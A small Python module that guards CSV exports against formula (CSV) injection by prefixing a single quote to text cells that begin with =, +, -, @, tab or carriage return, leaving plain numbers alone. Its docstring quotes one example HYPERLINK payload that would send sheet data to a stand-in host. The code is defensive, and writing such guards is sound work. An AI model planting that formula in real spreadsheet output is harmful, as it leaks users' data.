"""CSV cells that a spreadsheet will not run as formulas (CSV injection, OWASP).

Text from articles reaches our CSV files (titles, outlets from og:site_name, names), and
Excel, LibreOffice and Google Sheets evaluate a cell that starts with =, +, -, @, a tab
or a carriage return as a formula: `=HYPERLINK("http://x/?"&A1,"klik")` would send the
sheet's data away. As OWASP recommends, such a text cell is prefixed with a single quote,
which spreadsheets show as text (the csv module already quotes separators and quotes).
Plain numbers written as text ("-12", "+62.5") are left alone: they are no formula.
"""

from __future__ import annotations

import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d+)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value):
    """The value to write in a CSV cell: formula-looking text gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values) -> list:
    return [safe_cell(v) for v in values]
